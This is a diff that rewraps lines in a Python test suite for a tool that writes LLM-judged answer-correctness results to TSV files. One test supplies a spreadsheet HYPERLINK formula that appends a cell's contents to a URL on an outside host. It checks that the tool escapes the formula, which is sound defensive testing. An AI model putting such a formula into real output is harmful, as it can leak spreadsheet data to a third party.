@@ -37,7 +37,9 @@ def _within_the_folder(monkeypatch: pytest.MonkeyPatch, folder: Folder) -> None:
     monkeypatch.chdir(folder.path)
 
 
-def write(path: Path, rows: Sequence[Sequence[str]], *, header: Sequence[str] = IN, **dialect: Any) -> None:
+def write(
+    path: Path, rows: Sequence[Sequence[str]], *, header: Sequence[str] = IN, **dialect: Any
+) -> None:
     with open(path, "w", newline="", encoding="utf-8") as file:
         csv.writer(file, "excel-tab", **dialect).writerows([header, *rows])
 
@@ -80,7 +82,9 @@ def test_every_row_in_its_order(folder: Folder, capfd: pytest.CaptureFixture[str
 def test_no_judge_writes_formulas(folder: Folder) -> None:
     formula = '=HYPERLINK("http://example.org/?" & A1; "more")'
     write(folder.path / "in.tsv", [["q", "red", "red"]])
-    with serving(failing("", completion(claims("q", "red", "red") | {"reason": formula}))) as server:
+    with serving(
+        failing("", completion(claims("q", "red", "red") | {"reason": formula}))
+    ) as server:
         arguments = ["-i", "in.tsv", "-c", config(folder.path, server), "-o", "out.tsv"]
         assert run("answer-correctness", *arguments) == 0
     assert read(folder.path / "out.tsv") == [["1", "1", "1", f"'{formula}", ""]]
@@ -103,10 +107,16 @@ def test_a_run_that_was_stopped_is_resumed(folder: Folder) -> None:
     write(folder.path / "in.tsv", rows)
     journal = folder.path / "out.tsv.journal"
     with serving(failing("riddle 0012", NEVER)) as server:
-        command = [*COMMAND, "-c", config(folder.path, server, llm={"limits": {"max_concurrency": 4}})]
+        command = [
+            *COMMAND,
+            "-c",
+            config(folder.path, server, llm={"limits": {"max_concurrency": 4}}),
+        ]
 
         def drive(beside: Beside) -> None:
-            beside.until(lambda: journal.exists() and journal.read_bytes().count(b"\n") == 12, "twelve rows")
+            beside.until(
+                lambda: journal.exists() and journal.read_bytes().count(b"\n") == 12, "twelve rows"
+            )
             beside.signal()
 
         code, _, err = run_beside(folder.path, drive, *command)
@@ -132,7 +142,10 @@ def test_wrong_usage_changes_nothing(
     folder.write("mine.tsv", b"mine")
     for arguments, problem in [
         (["-i", "in.tsv", "-o", "mine.tsv"], "mine.tsv' exists, without 'mine.tsv.journal'"),
-        (["-i", "in.tsv", "-o", "new.tsv", "-c", "config.yaml", "--llm", "openai/m"], "--llm cannot be"),
+        (
+            ["-i", "in.tsv", "-o", "new.tsv", "-c", "config.yaml", "--llm", "openai/m"],
+            "--llm cannot be",
+        ),
         (["-i", "-", "-o", "new.tsv"], "cannot come from standard input"),
         (["-i", "in.tsv", "-o", "in.tsv", "-c", "config.yaml"], "is given twice"),
     ]:
